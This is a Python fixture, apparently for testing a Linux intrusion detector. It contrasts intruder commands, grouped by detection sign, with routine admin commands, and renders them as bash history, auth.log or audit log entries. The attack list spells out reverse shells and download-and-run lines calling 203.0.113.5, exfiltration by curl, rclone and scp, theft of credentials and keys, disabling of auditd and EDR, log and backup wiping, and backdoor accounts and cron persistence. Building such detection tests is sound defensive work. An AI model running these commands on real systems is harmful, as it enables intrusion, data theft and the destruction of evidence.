"""Commands on Linux hosts: what intruders run, by the sign that is to tell it, and what staff do all day.

`ATTACKS`: sign, source, command. A source is "history" (typed), "sudo" (auth.log), "audit" (the audit
daemon's log) or "www" (the same, by the account of the web server).
"""

from __future__ import annotations

ATTACKS = (
    ("tool.named", "history", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    (
        "tool.named",
        "history",
        "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    ),
    (
        "tool.named",
        "history",
        "python3 -c 'import socket;s=socket.socket();s.connect((\"203.0.113.5\",443))'",
    ),
    ("tool.named", "history", "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:443"),
    ("tool.named", "sudo", "./linpeas.sh -a"),
    ("tool.named", "history", "impacket-secretsdump district/bob@10.1.1.5"),
    ("tool.named", "history", "./chisel client 203.0.113.5:8080 R:socks"),
    ("tool.named", "sudo", "/tmp/.x/xmrig -o pool.example:3333"),
    ("look.scan", "sudo", "nmap -sS -p445 10.20.0.0/16"),
    ("look.scan", "history", "ldapsearch -x -H ldap://dc01 -b dc=d '(servicePrincipalName=*)'"),
    ("look.scan", "history", "for i in $(seq 1 254); do ping -c1 10.1.1.$i; done"),
    ("account.dump", "sudo", "cat /etc/shadow"),
    ("account.dump", "history", "sudo cp /etc/shadow /tmp/s"),
    ("account.passwords", "history", "cat /root/.ssh/id_rsa"),
    ("account.passwords", "history", "find / -name '*.kdbx' 2>/dev/null"),
    ("account.passwords", "sudo", "grep -ri password /var/www/html /etc"),
    ("move.ssh", "history", "sshpass -p Winter2023 ssh root@10.1.1.9"),
    ("move.ssh", "history", "ssh -fN -R 9050 user@203.0.113.5"),
    ("stage.archive", "history", "tar czf /tmp/.a.tgz /srv/shares"),
    ("stage.archive", "history", "zip -r -P Passw0rd /dev/shm/x.zip /home/hr"),
    ("stage.archive", "sudo", "tar -czvf /tmp/hr.tar.gz /srv/students"),
    ("stage.archive", "history", "split -b 500M all.tgz part_ ; split -b 500m /tmp/all.tgz x"),
    ("theft.script", "history", "curl -T /tmp/hr.tar.gz https://transfer.example/x"),
    ("theft.script", "sudo", "rclone copy /srv/students remote:x --transfers 16"),
    ("theft.script", "sudo", "curl -F file=@/tmp/a.zip https://203.0.113.5/u"),
    ("theft.script", "audit", "scp /tmp/hr.tgz x@203.0.113.5:/d"),
    ("hide.defences", "sudo", "systemctl stop falcon-sensor"),
    ("hide.defences", "sudo", "setenforce 0"),
    ("hide.defences", "sudo", "ufw disable"),
    ("hide.defences", "sudo", "iptables -F"),
    ("hide.audit", "sudo", "systemctl disable --now auditd"),
    ("hide.audit", "sudo", "auditctl -e 0"),
    ("hide.audit", "history", "ln -sf /dev/null /root/.bash_history"),
    ("hide.history", "history", "history -c"),
    ("hide.history", "sudo", "shred -u /var/log/auth.log"),
    ("hide.history", "sudo", "rm -rf /var/log/nginx"),
    ("hide.cleared", "sudo", "truncate -s 0 /var/log/auth.log"),
    ("hide.cleared", "sudo", "journalctl --vacuum-time=1s"),
    ("hide.recovery", "sudo", "rm -rf /backup/daily"),
    ("hide.recovery", "history", "zfs destroy -r tank/home@autosnap_2023"),
    ("account.hidden", "sudo", "useradd -o -u 0 -g 0 sysd"),
    ("account.raised", "history", "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
    ("account.raised", "audit", "chmod u+s /bin/bash"),
    ("stay.unix", "history", "echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys"),
    ("stay.unix", "history", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"),
    ("hide.times", "history", "touch -r /bin/ls /usr/lib/libx.so"),
    ("run.download", "sudo", "bash -c 'curl http://203.0.113.5/i.sh | bash'"),
    ("run.download", "audit", "wget http://203.0.113.5/x -O /tmp/x"),
    ("run.hidden_script", "audit", "bash -c echo aGkK | base64 -d | bash"),
    ("entry.webshell", "www", "whoami"),
    ("entry.webshell", "www", "sh -c wget http://203.0.113.5/x -O /tmp/x"),
)
ORDINARY = (
    "apt-get update",
    "apt-get install -y nmap john clamav",
    "systemctl restart nginx",
    "systemctl stop nginx",
    "systemctl status auditd",
    "systemctl restart fail2ban",
    "tail -f /var/log/auth.log",
    "less /var/log/syslog",
    "tar czf /srv/backup/etc.tgz /etc",
    "tar xzf app.tgz -C /opt/app",
    "rsync -a /srv/students/ backup01:/srv/students/",
    "ssh admin@fs02",
    "ssh-keygen -t ed25519",
    "cat /root/.ssh/id_ed25519.pub",
    "vi /etc/fstab",
    "visudo",
    "useradd -m teacher1",
    "usermod -aG printers teacher1",
    "crontab -e",
    "crontab -l",
    "grep -i error /var/log/nginx/error.log",
    "grep -r listen /etc/nginx",
    "find /srv -name '*.docx' -mtime -1",
    "curl -fsSL https://packages.example/key.gpg -o /usr/share/keyrings/key.gpg",
    "wget https://example.org/app.tar.gz",
    "python3 -c 'print(1)'",
    "python3 manage.py migrate",
    "nc -zv fs02 445",
    "ping -c3 10.1.1.1",
    "ufw allow 443/tcp",
    "ufw status",
    "iptables -L -n",
    "journalctl -u nginx --since today",
    "mysqldump students > /srv/backup/db.sql",
    "chmod 755 /srv/web/bin/x",
    "chmod +x deploy.sh",
    "zip -r site.zip public",
    "docker compose up -d",
    "ldapsearch -x uid=bob",
    "dig district.example",
    "nslookup fs02",
    "du -sh /srv/*",
    "df -h",
    "history",
    "echo hi > /tmp/x",
    "passwd bob",
    "su - postgres",
    "openssl s_client -connect mail:993",
    "restic -r /srv/r snapshots",
    "restic -r /srv/r forget --keep-daily 7 --prune",
    "rm -rf /tmp/build",
    "touch /srv/flag",
    "split -l 1000 list.csv part_",
    "scp a.pdf admin@fs02:/srv/",
    "cp /etc/hosts /etc/hosts.bak",
    "gzip /var/log/old.log",
    "lvremove -y vg/tmpdata",
    "kill 1234",
    "pkill -f gunicorn",
    "systemctl disable bluetooth",
    "apt-get remove -y thunderbird",
    "setfacl -m u:bob:rw /srv/x",
    "certbot renew",
    "sh -c /usr/sbin/sendmail -t -i",
)
AT_S = 1_700_000_000


def write_command(source: str, command: str) -> dict[str, bytes]:
    """The file of a host that tells of a command."""
    if source == "history":
        return {"/root/.bash_history": f"ls\n#{AT_S}\n{command}\nexit\n".encode()}
    if source == "sudo":
        line = (
            f"2023-11-14T22:13:20Z fs01 sudo:      bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}\n"
        )
        return {"/var/log/auth.log": line.encode()}
    return {"/var/log/audit/audit.log": write_audit(command, "www-data" if source == "www" else "root")}


def write_audit(command: str, effective: str) -> bytes:
    """An event of the audit daemon: a command with its arguments, quoted or in hexadecimal digits."""
    shell = command.startswith(("bash -c", "sh -c"))
    parts = command.split(" ", 2) if shell else command.split(" ")
    shown = [one.encode().hex().upper() if set(one) & set(" \"'") else f'"{one}"' for one in parts]
    given = " ".join(f"a{at}={one}" for at, one in enumerate(shown))
    who = "unset" if effective == "www-data" else "bob"
    head = f"msg=audit({AT_S}.123:456):"
    return (
        f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes ppid=1 pid=2 auid=1000 uid=0 "
        f'comm="x" exe="/usr/bin/x" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="{who}" UID="{effective}"\n'
        f"type=EXECVE {head} argc={len(parts)} {given}\n"
    ).encode()
